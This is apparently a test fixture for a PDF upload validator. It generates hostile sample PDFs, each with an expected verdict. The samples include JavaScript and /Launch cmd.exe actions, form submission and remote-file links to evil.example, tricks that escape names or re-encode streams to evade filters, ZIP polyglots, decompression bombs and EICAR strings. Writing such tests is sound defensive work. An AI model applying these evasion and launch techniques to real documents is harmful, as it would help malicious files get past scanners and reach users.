import { constants, deflateSync } from 'node:zlib';
import { EICAR, type HostileFile, joined, SCRIPT, zip } from './hostile-file.ts';
import { compressed, drawn, handmade, HIDDEN_ACTION, sound, stream, updated, withLink } from './pdf-bytes.ts';

const SCRIPTED = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const escaped = (name: string) => `/${Array.from(name, (letter) => `#${letter.charCodeAt(0).toString(16)}`).join('')}`;
const nothing = (sizeBytes: number) => deflateSync(Buffer.alloc(sizeBytes), { level: 1 });
const flate = joined(deflateSync(HIDDEN_ACTION));

/** The action, whole, then a block of a type that does not exist (RFC 1951, 3.2.3). */
const damagedLater = () =>
  joined(deflateSync(HIDDEN_ACTION, { finishFlush: constants.Z_SYNC_FLUSH }), '\x07\xff\xff\xff');

/** PNG's "up" filter, in rows of four letters: no name stays in one piece. */
function predicted(text: string): Buffer {
  const letters = Buffer.from(text.padEnd(Math.ceil(text.length / 4) * 4));
  const rows: number[] = [];
  letters.forEach((letter, at) => {
    if (at % 4 === 0) rows.push(2);
    rows.push((letter - (letters[at - 4] ?? 0) + 256) % 256);
  });
  return joined(deflateSync(Buffer.from(rows)));
}

const named = (what: string, make: () => Buffer): HostileFile => [what, make, 'DOCUMENT_ACTIVE_CONTENT', 'bill.pdf'];

const ACTIVE: readonly HostileFile[] = [
  named('script on opening', () => handmade({ catalogue: `/OpenAction ${SCRIPTED}` })),
  named('script on closing', () => handmade({ catalogue: `/AA << /WC ${SCRIPTED} >>` })),
  named('script on turning to a page', () => handmade({ page: `/AA << /O ${SCRIPTED} >>` })),
  named('script by name', () => handmade({ catalogue: `/Names << /JavaScript << /Names [(a) ${SCRIPTED}] >> >>` })),
  named('script behind a link', () => withLink(SCRIPTED)),
  named('script with one letter escaped', () => withLink(SCRIPTED.replace('/JavaScript', '/J#61vaScript'))),
  named('script with each letter escaped', () => withLink(SCRIPTED.replace('/JavaScript', escaped('JavaScript')))),
  named('a program started', () => withLink('<< /S /Launch /F (cmd.exe) >>')),
  named('a program started on opening', () => handmade({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' })),
  named('a file of another computer', () => withLink(String.raw`<< /S /GoToR /F (\\\\evil.example\\a) /D [0 /Fit] >>`)),
  named('a file inside', () => handmade({ catalogue: '/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>' })),
  named('a file inside, opened', () => withLink('<< /S /GoToE /T << /R /C /N (x) >> >>')),
  named('a file pinned to its page', () => handmade({ page: '/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>]' })),
  named('rich media', () => handmade({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' })),
  named('a film', () => handmade({ page: '/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (x) >> >>]' })),
  named('a rendition', () => withLink('<< /S /Rendition /JS (1) >>')),
  named('a form of the XFA kind', () => handmade({ catalogue: '/AcroForm << /XFA [(template) 4 0 R] /Fields [] >>' })),
  named('a form that is sent', () => withLink('<< /S /SubmitForm /F (https://evil.example) >>')),
  named('a form that reads a file', () => withLink('<< /S /ImportData /F (x) >>')),
  named('a page in its first line', () => joined(`%PDF-1.7 ${SCRIPT}\n`, sound())),
  named('a ZIP behind it', () => joined(sound(), zip('run.jar'))),
  named('a ZIP behind it that ends as a PDF', () => joined(sound(), zip('run.jar', 'x', '\n%%EOF\n'))),
];

const HIDDEN: readonly HostileFile[] = [
  named('an action in an object stream', () => compressed({ more: '/Filter /FlateDecode' })),
  named('one whose filter is escaped', () => compressed({ more: '/Filter /Fl#61te#44ecode' })),
  named('one without a type', () => compressed({ whole: stream('/N 1 /First 4 /Filter /FlateDecode', flate) })),
  named('one with a wrong sum', () => {
    const data = Buffer.from(flate);
    data.fill(0, data.length - 4);
    return compressed({ more: '/Filter /FlateDecode', data });
  }),
  named('one damaged after the action', () => compressed({ more: '/Filter /FlateDecode', data: damagedLater() })),
  named('one whose data begin late', () => {
    const holder = stream('/N 1 /First 4 /Filter /FlateDecode', flate);
    return compressed({ whole: joined(holder.toString('latin1').replace('stream\n', 'stream    \n')) });
  }),
  named('one in hexadecimal', () =>
    compressed({ more: '/Filter [/ASCIIHexDecode /FlateDecode]', data: joined(flate.toString('hex'), '>') }),
  ),
  named('one in plain hexadecimal', () =>
    compressed({ more: '/Filter /AHx', data: joined(Buffer.from(HIDDEN_ACTION).toString('hex'), '>') }),
  ),
  named('one deflated twice', () =>
    compressed({ more: '/Filter [/FlateDecode /FlateDecode]', data: joined(deflateSync(flate)) }),
  ),
  named('one with predicted rows', () =>
    compressed({
      more: '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>',
      data: predicted(HIDDEN_ACTION),
    }),
  ),
  named('one behind a decoy', () =>
    compressed({
      more: '/Decoy (endobj 9 0 obj \\) << ) % >>\n/F [ /AHx /Fl ]',
      data: joined(flate.toString('hex'), '>'),
    }),
  ),
];

const pdf = (what: string, make: HostileFile[1], ending: HostileFile[2] = 'DOCUMENT_CORRUPT'): HostileFile => [
  what,
  make,
  ending,
  'bill.pdf',
];

const OTHER: readonly HostileFile[] = [
  pdf('sound', sound, 'accepted'),
  pdf('with a web link', () => withLink('<< /S /URI /URI (https://example.com) >>'), 'accepted'),
  pdf('saved twice', () => updated(sound()), 'accepted'),
  pdf('with a few bytes after its end', () => joined(sound(), '\r\n\0\0 \n'), 'accepted'),
  pdf('of fifty pages', () => drawn({}, 50), 'accepted'),
  pdf('called a picture', sound, 'accepted'),
  pdf('of 51 pages', () => drawn({}, 51), 'DOCUMENT_NOT_ACCEPTED'),
  pdf('with a reader’s password', () => drawn({ userPassword: 'secret' }), 'DOCUMENT_ENCRYPTED'),
  pdf('with an owner’s password', () => drawn({ ownerPassword: 'secret' }), 'DOCUMENT_ENCRYPTED'),
  pdf('cut in its middle', () => sound().subarray(0, 200)),
  pdf('without its end', () => joined(sound().toString('latin1').replace('%%EOF', ''))),
  pdf('with five kilobytes after its end', () => joined(sound(), 'x'.repeat(5_000))),
  pdf('of noise after its first line', () => joined('%PDF-1.7\n', 'x'.repeat(6_000))),
  pdf('with a page that is its own parent', () => handmade({ pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' })),
  pdf('with brackets without end', () => handmade({ catalogue: `/X ${'['.repeat(100_000)}` })),
  pdf('with a stream of 200 MB', () => handmade({ more: [stream('/Filter /FlateDecode', nothing(200_000_000))] })),
  pdf('with streams of 750 MB in all', () => {
    const one = stream('/Filter /FlateDecode', nothing(150_000_000));
    return handmade({ more: [one, one, one, one, one] });
  }),
  pdf('of streams without end', () => handmade({ more: ['stream\n'.repeat(30_000)] })),
  pdf('with a picture of 900 million pixels', () =>
    handmade({ more: [stream('/Subtype /Image /Width 30000 /Height 30000 /Filter /FlateDecode', nothing(9_000))] }),
  ),
  pdf('with EICAR in a stream', () => handmade({ more: [stream('', EICAR)] }), 'DOCUMENT_INFECTED'),
  pdf(
    'with EICAR in a deflated stream',
    () => handmade({ more: [stream('/Filter /FlateDecode', deflateSync(EICAR))] }),
    'DOCUMENT_INFECTED',
  ),
];

export const HOSTILE_PDFS: readonly HostileFile[] = [...ACTIVE, ...HIDDEN, ...OTHER].map(
  ([what, make, ending, fileName]) =>
    [`a PDF: ${what}`, make, ending, what === 'called a picture' ? 'bill.jpg' : fileName] as const,
);
